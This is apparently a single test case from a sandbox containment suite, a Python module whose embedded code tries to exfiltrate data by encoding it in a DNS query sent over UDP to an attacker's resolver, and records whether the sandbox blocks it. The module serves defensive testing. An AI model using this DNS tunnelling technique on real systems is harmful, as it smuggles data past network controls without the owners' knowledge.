from ._net import ALLOW, DNS_QUERY

ID = "dns.direct-resolver-allow"
CATEGORY = "dns"
DESCRIPTION = "with network allow on, send a DNS query carrying the data straight to the attacker's resolver (UDP)"
CLAIMS = ("rule:network (namespace)",)
POLICY = ALLOW
CODE = DNS_QUERY + """
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.settimeout(1)
        u.sendto(dns_query(f"{DATA}.allow.{DOMAIN}"), (DNS_HOST, DNS_PORT))
        u.recv(512)
    out("ALLOWED", "the resolver answered")
except OSError as e:
    out("DENIED", f"query to {DNS_HOST}:{DNS_PORT}: {ename(e)}")
"""
CONTROL = "host"
CONTAINED = "the proxy is the only way out and it carries no DNS: the resolver's log holds no query with the data"
